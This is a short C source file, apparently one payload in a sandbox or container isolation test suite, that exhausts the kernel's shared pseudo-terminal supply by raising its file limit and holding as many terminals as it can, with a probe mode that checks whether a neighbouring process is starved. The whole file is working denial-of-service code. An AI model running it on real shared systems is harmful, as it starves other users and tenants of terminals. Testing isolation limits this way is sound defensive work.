// Opens pseudo terminals, of which the kernel has one supply for all. argv: hold CAP SECONDS |
// probe (a neighbour who wants one: SUCCEEDED if he is starved)
#include <sys/resource.h>

#include "payload.h"

static void attack(int argc, char** argv) {
  const char* verb = need(argc, argv, 1);
  if (!strcmp(verb, "probe")) {
    int fd = posix_openpt(O_RDWR | O_NOCTTY);
    if (fd < 0) succeeded("starved: %s", strerror(errno));
    blocked_because("FREE a neighbour still gets a terminal");
  }
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  int cap = atoi(need(argc, argv, 2)), count = 0, error = 0;
  for (; count < cap; ++count) {
    if (posix_openpt(O_RDWR | O_NOCTTY) < 0) {
      error = errno;
      break;
    }
  }
  printf("HOLDING %d\n", count);
  fflush(stdout);
  sleep((unsigned)atoi(need(argc, argv, 3)));
  if (count >= cap) succeeded("%d terminals", count);
  blocked_because("%s stopped at %d terminals", strerrorname_np(error), count);
}
